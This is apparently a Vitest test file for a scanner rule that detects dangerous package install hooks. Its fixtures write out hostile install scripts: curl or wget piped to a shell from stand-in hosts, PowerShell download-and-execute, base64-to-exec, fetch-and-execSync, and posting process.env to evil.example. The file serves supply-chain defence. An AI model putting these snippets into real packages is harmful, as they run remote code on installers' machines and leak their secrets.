import { describe, expect, it } from 'vitest';
import rule from './install-script-execution.js';
import type { Manifest } from '../scan/model.js';
import { runRule, serious } from './support/test-context.js';

function packageJson(scripts: Record<string, string>, path = 'package.json'): { manifests: Manifest[]; files: Array<{ path: string; text: string }> } {
  const data = { name: 'x', version: '1.0.0', scripts };
  return { manifests: [{ kind: 'package.json', path, data }], files: [{ path, text: JSON.stringify(data, null, 2) }] };
}

describe('install-script-execution: package.json', () => {
  it.each([
    ['tsc on prepare', { prepare: 'tsc' }],
    ['a build on prepare', { prepare: 'npm run build && husky install' }],
    ['a local build script', { postinstall: 'node scripts/build.js' }],
    ['node-gyp', { install: 'node-gyp rebuild' }],
    ['a message with a URL', { postinstall: 'echo "Docs: https://example.com/docs"' }],
    ['curl in a non-install script', { test: 'curl -s https://example.com | sh', build: 'tsc' }],
  ])('leaves %s alone', (_name, scripts) => {
    const input = packageJson(scripts);
    input.files.push({ path: 'scripts/build.js', text: "import { build } from 'esbuild';\nawait build({ entryPoints: ['src/index.ts'], outdir: 'dist' });\n" });
    expect(serious(runRule(rule, input))).toEqual([]);
  });

  it.each([
    ['curl piped to sh', { preinstall: 'curl -fsSL https://evil.example/i.sh | sh' }, 'critical', /pipes it to an interpreter/],
    ['wget piped to bash', { postinstall: 'wget -qO- http://198.51.100.7/x | bash' }, 'critical', /pipes/],
    ['PowerShell download and iex', { install: 'powershell -c "iex (iwr https://evil.example/a.ps1)"' }, 'critical', /pipes/],
    ['base64 decoded into node', { postinstall: 'echo Y29uc29sZS5sb2coMSk= | base64 -d | node' }, 'critical', /base64/],
    ['node -e with a URL', { postinstall: 'node -e "require(\'https\').get(\'https://evil.example/p\')"' }, 'high', /downloads|inline/],
    ['a plain download', { preinstall: 'curl -o bin/tool https://example.com/tool' }, 'high', /downloads/],
  ])('reports %s', (_name, scripts, severity, reason) => {
    const findings = runRule(rule, packageJson(scripts));
    expect(findings).toHaveLength(1);
    expect(findings[0]?.severity).toBe(severity);
    expect(findings[0]?.message).toMatch(reason);
    expect(findings[0]?.location?.line).toBeGreaterThan(1);
  });

  it('follows the script file a hook runs and reports network + child_process in it', () => {
    const input = packageJson({ postinstall: 'node ./scripts/setup.js' }, 'pkg/package.json');
    input.files.push({
      path: 'pkg/scripts/setup.js',
      text: "const https = require('https');\nconst { execSync } = require('child_process');\nhttps.get('https://evil.example/p', (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => execSync(s)); });\n",
    });
    const findings = runRule(rule, input);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ severity: 'critical', location: { file: 'pkg/package.json' } });
    expect(findings[0]?.message).toContain('pkg/scripts/setup.js');
  });

  it('rates install telemetry (single variables, a literal command, a POST) high, not critical', () => {
    const input = packageJson({ postinstall: 'node dist/track-installation.js' });
    input.files.push({
      path: 'dist/track-installation.js',
      text:
        "import https from 'https';\nimport { execSync } from 'child_process';\n" +
        "const agent = process.env.npm_config_user_agent || '';\nconst parent = execSync(`ps -p ${process.ppid} -o command=`).toString();\n" +
        "https.request('https://telemetry.example/track', { method: 'POST' }).end(JSON.stringify({ agent, parent }));\n",
    });
    expect(runRule(rule, input).map((finding) => finding.severity)).toEqual(['high']);
  });

  it('reports a script file that sends the environment out', () => {
    const input = packageJson({ preinstall: 'node collect.js' });
    input.files.push({ path: 'collect.js', text: "fetch('https://evil.example/c', { method: 'POST', body: JSON.stringify(process.env) });\n" });
    expect(runRule(rule, input).map((finding) => finding.severity)).toEqual(['critical']);
  });

  it('does not treat a regex .exec() in a network-using build script as execution', () => {
    const input = packageJson({ prepare: 'node scripts/version.js' });
    input.files.push({ path: 'scripts/version.js', text: "const m = /v(\\d+)/.exec(process.version);\nconsole.log('see https://nodejs.org', m);\n" });
    expect(runRule(rule, input)).toEqual([]);
  });
});

describe('install-script-execution: setup.py', () => {
  const setup = (text: string) => runRule(rule, { manifests: [{ kind: 'setup.py', path: 'setup.py', data: text }], files: [{ path: 'setup.py', text }] });

  it('leaves a plain setup.py alone', () => {
    expect(
      setup('from setuptools import setup, find_packages\n\nsetup(name="mcp-weather", version="0.1.0", packages=find_packages(), long_description=open("README.md").read())\n'),
    ).toEqual([]);
  });

  it('leaves a build_ext override that runs cmake alone', () => {
    expect(
      serious(setup('import subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\n\nclass CMakeBuild(build_ext):\n    def run(self):\n        subprocess.check_call(["cmake", ".."])\n\nsetup(name="x", cmdclass={"build_ext": CMakeBuild})\n')),
    ).toEqual([]);
  });

  it('reports an install override that downloads and runs a payload', () => {
    const findings = setup(
      'import os, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        data = urllib.request.urlopen("https://evil.example/p").read()\n        os.system(data.decode())\n\nsetup(name="mcp-server-fetch2", cmdclass={"install": PostInstall})\n',
    );
    expect(findings).toHaveLength(1);
    expect(findings[0]?.severity).toBe('critical');
    expect(findings[0]?.message).toMatch(/overrides the install command/);
  });

  it('reports an install override that runs a command', () => {
    const findings = setup(
      'import subprocess\nfrom setuptools import setup\nfrom setuptools.command.develop import develop\n\nclass Dev(develop):\n    def run(self):\n        subprocess.call("touch /tmp/pwned", shell=True)\n        develop.run(self)\n\nsetup(name="x", cmdclass={"develop": Dev})\n',
    );
    expect(findings.map((finding) => finding.severity)).toEqual(['high']);
  });

  it('reports module-level decode-and-exec even without cmdclass', () => {
    const findings = setup('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\nfrom setuptools import setup\nsetup(name="x")\n');
    expect(findings.map((finding) => finding.severity)).toEqual(['critical']);
  });
});
